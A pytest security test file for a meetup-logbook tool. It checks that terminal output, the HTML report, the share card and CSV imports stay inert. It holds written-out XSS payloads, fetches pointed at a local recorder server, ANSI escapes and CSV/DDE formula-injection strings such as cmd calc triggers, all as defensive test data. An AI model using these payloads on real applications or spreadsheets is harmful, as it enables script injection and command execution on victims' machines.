"""Hostile text: what other people wrote never runs, never fetches, never becomes a formula.

The corpus puts a payload into every text column of every logbook table (and
a column of the user's own), then imports a LinkedIn ``Connections.csv``, a
calendar and a vCard file whose every text field is hostile too. Checked:

* the terminal output of ``summary``, ``validate`` and ``insights`` carries no
  control characters (an ANSI escape in a company name must not repaint the
  terminal);
* the report HTML (rendered once) has no script element, no ``on*``
  attribute, no ``javascript:`` URL and no external resource, and in headless
  Chromium no payload runs (it would set ``document.title`` or add an element
  with id ``pwned``) and nothing is fetched from the local server every
  payload points at. A control page with one live payload proves the harness
  sees both;
* the share card is drawn from the summary's aggregates only;
* CSV formula injection: imported text cells starting with ``=``, ``+``,
  ``-``, ``@``, tab or CR are stored with a leading ``'`` (per import
  source), numbers and phone numbers are not, cells you typed are never
  rewritten, and a re-import changes nothing.
"""

from __future__ import annotations

import csv
import datetime as dt
import html
import http.server
import io
import re
import subprocess
import sys
import threading
from collections.abc import Iterator
from html.parser import HTMLParser
from pathlib import Path
from typing import Any, ClassVar

import pytest
from browser import CHROMIUM, dump_dom
from builders import contact, event, interaction, learning, write_logbook

from meetupstats.importers import defuse_formula, import_into
from meetupstats.importers.ics import read_ics
from meetupstats.importers.linkedin import linkedin_batch
from meetupstats.importers.vcard import read_vcard
from meetupstats.logbook import load_logbook

TODAY = dt.date(2026, 1, 15)


# --------------------------------------------------------------------------- a local "attacker" server


class _Recorder(http.server.BaseHTTPRequestHandler):
    hits: ClassVar[list[str]] = []

    def do_GET(self) -> None:
        self.hits.append(self.path)
        self.send_response(204)
        self.end_headers()

    def log_message(self, format: str, *args: Any) -> None:
        pass


@pytest.fixture(scope="module")
def server() -> Iterator[tuple[str, list[str]]]:
    """``(base URL, requests seen)`` of a server on 127.0.0.1 every payload points at."""
    hits: list[str] = []
    handler = type("Handler", (_Recorder,), {"hits": hits})
    httpd = http.server.ThreadingHTTPServer(("127.0.0.1", 0), handler)
    thread = threading.Thread(target=httpd.serve_forever, daemon=True)
    thread.start()
    try:
        yield f"http://127.0.0.1:{httpd.server_address[1]}", hits
    finally:
        httpd.shutdown()
        httpd.server_close()


def payloads(base: str) -> list[str]:
    """Each one, if it were live, would run (title/marker) or fetch from ``base``."""
    return [
        "<script>document.title='pwned'</script>",
        "<img src=x onerror=\"document.body.appendChild(document.createElement('i')).id='pwned'\">",
        '"><svg onload="document.title=\'pwned\'"></svg>',
        f'<img src="{base}/img-pwned.png">',
        f'<link rel="stylesheet" href="{base}/css-pwned.css">',
        f"<style>@import '{base}/import-pwned.css';</style>",
        f'<iframe src="{base}/frame-pwned"></iframe>',
        "javascript:document.title='pwned'",
        f"[pwned](javascript:document.title='pwned') ![pwned]({base}/md-pwned.png)",
        f'=HYPERLINK("{base}/formula-pwned","pwned")',
        "\x1b[2J\x1b[31mpwned\x1b[0m terminal escape",
        "{{7*7}} ${7*7} %(pwned)s {pwned}",
        "</title><script>document.title='pwned'</script>",
        "</style><script>document.title='pwned'</script>",
    ]


# --------------------------------------------------------------------------- the hostile logbook


def _hostile_logbook(folder: Path, base: str) -> Path:
    p = payloads(base)

    def at(i: int) -> str:
        return p[i % len(p)]

    events = [
        event(
            f"e{i}",
            f"2025-0{i + 1}-1{i}",
            title=at(i),
            community=at(i + 1),
            city=at(i + 2),
            format="afterwork",
            style="talks",
            channel="meetup.com",
            duration_h="2",
            rating="4",
            questions_asked="1",
            topics=at(i + 3).replace(";", ","),
            url=at(i + 4),
            notes=at(i + 5),
            source=at(i + 6),
            source_id=at(i + 7),
            my_column=at(i + 8),
        )
        for i in range(6)
    ]
    contacts = [
        contact(
            f"c{i}",
            name=at(i + 2),
            company=at(i + 3),
            position=at(i + 4),
            linkedin_url=at(i + 5),
            email=at(i + 6),
            met_on=f"2025-0{i + 1}-1{i}",
            met_event_id=f"e{i}",
            introduced_by="c0" if i else "",
            tags=at(i + 7),
            notes=at(i + 8),
            source=at(i + 9),
            source_id=at(i + 10),
        )
        for i in range(6)
    ]
    interactions = [
        interaction(
            f"2025-0{i + 1}-1{i + 1}",
            f"c{i}",
            "message",
            direction="out",
            event_id=f"e{i}",
            note=at(i + 11),
            source=at(i + 12),
            source_id=at(i + 13),
        )
        for i in range(6)
    ]
    learnings = [learning(f"e{i}", at(i + 9), topic=at(i + 10)) for i in range(6)]
    return write_logbook(
        folder, events=events, contacts=contacts, interactions=interactions, learnings=learnings
    )


def _connections_csv(path: Path, texts: list[str]) -> Path:
    buf = io.StringIO()
    w = csv.writer(buf, lineterminator="\n")
    w.writerow(
        ["First Name", "Last Name", "URL", "Email Address", "Company", "Position", "Connected On"]
    )
    for i, t in enumerate(texts):
        w.writerow(
            [t, f"Last{i}", f"https://www.linkedin.com/in/hostile-{i}", "", t, t, "12 Mar 2025"]
        )
    path.write_text(buf.getvalue(), encoding="utf-8")
    return path


def _calendar(path: Path, texts: list[str]) -> Path:
    import icalendar

    cal = icalendar.Calendar()
    cal.add("prodid", "-//hostile//EN")
    cal.add("version", "2.0")
    for i, t in enumerate(texts):
        ev = icalendar.Event()
        ev.add("uid", f"hostile-{i}@meetup.com")
        ev.add("dtstart", dt.datetime(2025, 10, 1 + i, 17, 0, tzinfo=dt.UTC))
        ev.add("dtend", dt.datetime(2025, 10, 1 + i, 19, 0, tzinfo=dt.UTC))
        ev.add("summary", t)
        ev.add("location", f"{t}, Helsinki, Finland")
        ev.add("description", t)
        ev.add("url", f"https://www.meetup.com/x/events/{i}/")
        cal.add_component(ev)
    path.write_bytes(cal.to_ical())
    return path


def _vcards(path: Path, texts: list[str]) -> Path:
    import vobject

    cards = []
    for i, t in enumerate(texts):
        card = vobject.vCard()
        card.add("n").value = vobject.vcard.Name(family=f"Card{i}", given=t)
        card.add("fn").value = f"{t} Card{i}"
        card.add("org").value = [t]
        card.add("title").value = t
        card.add("note").value = t
        cards.append(card.serialize())
    path.write_text("".join(cards), encoding="utf-8")
    return path


@pytest.fixture(scope="module")
def hostile(tmp_path_factory: pytest.TempPathFactory, server: tuple[str, list[str]]) -> Path:
    """The hostile logbook, with a hostile export of every source imported into it."""
    base, _ = server
    root = tmp_path_factory.mktemp("hostile")
    folder = _hostile_logbook(root / "logbook", base)
    texts = payloads(base)
    import_into(folder, linkedin_batch(_connections_csv(root / "Connections.csv", texts)))
    import_into(folder, read_ics(_calendar(root / "cal.ics", texts), today=TODAY))
    import_into(folder, read_vcard(_vcards(root / "cards.vcf", texts)))
    return folder


def test_hostile_logbook_holds_every_payload(hostile: Path, server: tuple[str, list[str]]) -> None:
    book = load_logbook(hostile)
    cells = "\n".join(
        str(v)
        for name in ("events", "contacts", "interactions", "learnings")
        for v in book.table(name).astype(object).to_numpy().ravel()
    )
    missing = [p for p in payloads(server[0]) if p.lstrip("=") not in cells]
    assert missing == []
    # imports from every source landed (the corpus really went through them)
    sources = set(book.contacts["source"].dropna()) | set(book.events["source"].dropna())
    assert {"linkedin", "vcard", "ics"} <= sources


# --------------------------------------------------------------------------- terminal output

_CONTROL = re.compile(r"[\x00-\x08\x0b-\x1f\x7f\x9b]")


@pytest.mark.parametrize(
    "args",
    [
        ["summary", "--year", "2025"],
        ["summary", "--year", "2025", "--json"],
        ["validate"],
        ["insights", "--year", "2025"],
    ],
    ids=["summary", "summary-json", "validate", "insights"],
)
def test_terminal_output_has_no_control_characters(hostile: Path, args: list[str]) -> None:
    proc = subprocess.run(
        [sys.executable, "-m", "meetupstats", *args, "--data", str(hostile)],
        capture_output=True,
        text=True,
        timeout=300,
    )
    assert proc.returncode == 0, proc.stderr
    out = proc.stdout + proc.stderr
    assert "Traceback" not in out
    assert not _CONTROL.search(out.replace("\n", "")), repr(_CONTROL.search(out.replace("\n", "")))


# --------------------------------------------------------------------------- the report


@pytest.fixture(scope="module")
def report(hostile: Path) -> Path:
    from meetupstats.cli import main

    out = hostile.parent / "report" / "hostile.html"
    assert main(["report", "--data", str(hostile), "--out", str(out), "--year", "2025"]) == 0
    return out


class _Audit(HTMLParser):
    def __init__(self) -> None:
        super().__init__()
        self.tags: list[str] = []
        self.problems: list[str] = []
        self.css: list[str] = []
        self.text: list[str] = []
        self._in_style = False

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.tags.append(tag)
        self._in_style = tag == "style"
        if tag in ("script", "iframe", "object", "embed", "frame", "base", "form"):
            self.problems.append(f"<{tag}>")
        for name, value in attrs:
            v = (value or "").strip().lower()
            if name.startswith("on"):
                self.problems.append(f"<{tag} {name}>")
            if name in (
                "src",
                "href",
                "srcset",
                "action",
                "formaction",
                "poster",
                "data",
                "background",
            ):
                if v.startswith("javascript:"):
                    self.problems.append(f"<{tag} {name}=javascript:>")
                if re.match(r"^(https?:)?//", v) and not (tag == "a" and name == "href"):
                    self.problems.append(f"<{tag} {name}> loads {v[:60]}")
            if name == "style" and re.search(r"url\(|expression\(", v):
                self.problems.append(f"<{tag} style=url()>")
        if tag == "link":
            self.problems.append(f"<link {dict(attrs).get('href', '')[:60]}>")
        if tag == "meta" and (dict(attrs).get("http-equiv") or "").lower() == "refresh":
            self.problems.append("<meta refresh>")

    def handle_endtag(self, tag: str) -> None:
        self._in_style = False

    def handle_data(self, data: str) -> None:
        (self.css if self._in_style else self.text).append(data)


def test_report_html_is_inert(report: Path, server: tuple[str, list[str]]) -> None:
    page = report.read_text(encoding="utf-8")
    audit = _Audit()
    audit.feed(page)
    assert audit.problems == []
    css = "\n".join(audit.css)
    assert "@import" not in css and not re.search(r"url\(\s*['\"]?(https?:)?//", css)
    assert audit.tags.count("style") == 1  # the report's own; no payload opened or closed one
    assert server[0] not in css
    # the payloads are on the page, as text
    text = html.unescape("".join(audit.text))
    shown = [p for p in payloads(server[0]) if p.lstrip("=") in text]
    assert len(shown) >= 8, shown


def _pwned(dom: str) -> bool:
    title = re.search(r"<title>(.*?)</title>", dom, flags=re.S)
    return bool(re.search(r"id=\"pwned\"", dom)) or bool(title and "pwned" in title.group(1))


@pytest.mark.skipif(CHROMIUM is None, reason="chromium is not installed (CI's .ci/run installs it)")
def test_report_in_chromium_runs_nothing_and_fetches_nothing(
    report: Path, server: tuple[str, list[str]], tmp_path: Path
) -> None:
    base, hits = server
    # control: the harness sees a live payload run and fetch
    control = tmp_path / "control.html"
    control.write_text(
        "<html><head><title>control</title></head><body>"
        + payloads(base)[1]
        + f'<img src="{base}/control.png"><script>document.title="pwned"</script></body></html>',
        encoding="utf-8",
    )
    dom = dump_dom(control, tmp_path / "profile-control")
    assert _pwned(dom)
    assert "/control.png" in hits
    hits.clear()
    # the report (and the same page without its Content-Security-Policy:
    # escaping alone must hold)
    bare = tmp_path / "bare.html"
    page = report.read_text(encoding="utf-8")
    bare.write_text(re.sub(r"<meta[^>]*Content-Security-Policy[^>]*>", "", page), "utf-8")
    for i, path in enumerate((report, bare)):
        dom = dump_dom(path, tmp_path / f"profile-{i}")
        assert not _pwned(dom)
    assert hits == []


# --------------------------------------------------------------------------- the card


def test_share_card_is_drawn_from_aggregates_only(
    hostile: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    import inspect

    from meetupstats import charts, reflection
    from meetupstats.metrics import yearly_summary

    # its only input is the summary object: numbers, enum values and dates
    assert list(inspect.signature(reflection.share_card).parameters) == ["summary"]
    summary = yearly_summary(load_logbook(hostile), 2025)
    drawn: list[str] = []

    class Drawn(Exception):
        pass

    def capture(year: int, tiles: Any, *, headline: str, footer: str) -> Any:
        drawn.extend([str(year), headline, footer, *(str(x) for t in tiles for x in t)])
        raise Drawn

    monkeypatch.setattr(charts, "share_card", capture)
    with pytest.raises(Drawn):
        reflection.share_card(summary)
    assert drawn, "share_card drew nothing"
    assert not [t for t in drawn if "pwned" in t.lower() or "<" in t]


# --------------------------------------------------------------------------- formula injection


@pytest.mark.parametrize(
    ("text", "stored"),
    [
        ("=1+1", "'=1+1"),
        ("+cmd|' /C calc'!A0", "'+cmd|' /C calc'!A0"),
        ("-2+3+cmd|' /C calc'!A0", "'-2+3+cmd|' /C calc'!A0"),
        ("@SUM(1+1)*cmd|' /C calc'!A0", "'@SUM(1+1)*cmd|' /C calc'!A0"),
        ("\t=1+1", "'\t=1+1"),
        ("\r=1+1", "'\r=1+1"),
        ("-5", "-5"),  # a number
        ("+358 40 123 4567", "+358 40 123 4567"),  # a phone number
        ("-", "'-"),  # not a number: a lone dash is defused too (harmless)
        ("Acme = fun", "Acme = fun"),  # only the first character matters
        ("", ""),
    ],
)
def test_defuse_formula(text: str, stored: str) -> None:
    assert defuse_formula(text) == stored
    assert defuse_formula(stored) == stored  # a re-import does not add a second quote


FORMULAS = ['=HYPERLINK("http://x.test/?"&A1,"Click")', "+1+cmd|'/C calc'!A0", "@SUM(A1:A9)"]


def _small_logbook(folder: Path) -> Path:
    return write_logbook(
        folder,
        events=[event("mine", "2025-01-05", notes="=SUM(1;2)", title="-my own title")],
        contacts=[contact("c1", name="=Typed By Me", company="@home")],
    )


def _cells(folder: Path) -> str:
    return "\n".join(
        (folder / n).read_text(encoding="utf-8") for n in ("events.csv", "contacts.csv")
    )


def _assert_defused(folder: Path) -> None:
    text = _cells(folder)
    rows = list(csv.reader(io.StringIO(text)))
    cells = [c for r in rows for c in r]
    for f in FORMULAS:
        assert "'" + f in cells, f
        assert f not in cells, f
    # the user's own cells are untouched
    assert "=SUM(1;2)" in cells and "-my own title" in cells
    assert "=Typed By Me" in cells and "@home" in cells


def _snapshot(folder: Path) -> dict[str, bytes]:
    return {
        str(p): p.read_bytes()
        for p in sorted(folder.rglob("*"))
        if p.is_file() and p.name != ".lock"
    }


def test_formulas_from_linkedin_are_defused(tmp_path: Path) -> None:
    folder = _small_logbook(tmp_path / "logbook")
    export = _connections_csv(tmp_path / "Connections.csv", FORMULAS)
    import_into(folder, linkedin_batch(export))
    after = _snapshot(folder)
    _assert_defused(folder)
    import_into(folder, linkedin_batch(export))  # idempotent
    assert _snapshot(folder) == after


def test_formulas_from_a_calendar_are_defused(tmp_path: Path) -> None:
    folder = _small_logbook(tmp_path / "logbook")
    export = _calendar(tmp_path / "cal.ics", FORMULAS)
    import_into(folder, read_ics(export, today=TODAY))
    after = _snapshot(folder)
    _assert_defused(folder)
    import_into(folder, read_ics(export, today=TODAY))
    assert _snapshot(folder) == after


def test_formulas_from_vcards_are_defused(tmp_path: Path) -> None:
    folder = _small_logbook(tmp_path / "logbook")
    export = _vcards(tmp_path / "cards.vcf", FORMULAS)
    import_into(folder, read_vcard(export))
    after = _snapshot(folder)
    _assert_defused(folder)
    import_into(folder, read_vcard(export))
    assert _snapshot(folder) == after
